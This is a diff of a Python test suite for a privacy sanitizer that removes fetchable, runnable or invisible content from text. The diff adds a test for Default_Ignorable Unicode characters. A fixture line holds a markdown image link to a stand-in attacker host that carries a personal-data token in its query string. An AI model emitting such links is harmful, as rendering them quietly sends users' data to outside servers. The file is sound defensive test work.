@@ -1,10 +1,12 @@
 """Nothing that a page would fetch, run or hide is left, and what only looks like it stays."""
 
+import sys
+
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from ragslm.privacy.plain_text import plain
+from ragslm.privacy.plain_text import plain, visible
 
 AWAY = [
     ("![x](https://evil.example/?d=PERSON_7K3QXA)", "x"),  # an image
@@ -67,3 +69,11 @@ def test_nothing_active_is_left_of_any_mixture(pieces):
 @given(st.text(max_size=200))
 def test_any_text_passes(text):
     assert "\u200b" not in plain(text)
+
+
+def test_no_sign_that_is_shown_as_nothing_is_left():
+    """Every character with the Unicode property Default_Ignorable_Code_Point."""
+    regex = pytest.importorskip("regex")
+    unseen = regex.findall(r"\p{Default_Ignorable_Code_Point}", "".join(map(chr, range(sys.maxunicode + 1))))
+    assert len(unseen) > 4_000
+    assert visible("".join(unseen)) == ""
